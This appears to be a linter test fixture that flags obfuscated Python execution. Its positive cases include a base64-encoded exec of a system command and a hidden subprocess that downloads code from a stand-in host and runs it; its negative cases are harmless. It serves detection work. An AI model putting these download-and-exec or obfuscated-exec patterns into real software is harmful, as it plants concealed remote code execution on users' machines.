import base64
import subprocess
import sys

from pyarmor_runtime_000000 import __pyarmor__  # want: PW111

__pyarmor__(__name__, __file__, b"PY000000\x00\x03")
BLOB = "aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ==aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ==aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ==aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ==aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ==aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ==aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ==aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ==aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ==aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ==aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ==aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=="  # want: PW111
exec(base64.b64decode(BLOB))
(lambda _: exec(_))(payload)  # want: PW111
exec((lambda a: a[::-1])(payload))  # want: PW111
subprocess.Popen([sys.executable, "-c", "import urllib.request as u;exec(u.urlopen('http://x.example/b').read())"], stdout=subprocess.DEVNULL, creationflags=0x08000000)  # want: PW111

# Not obfuscation.
square = lambda x: x * x
subprocess.Popen(["myservice", "--daemon"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
subprocess.Popen([sys.executable, "-m", "http.server"], stdout=subprocess.DEVNULL)
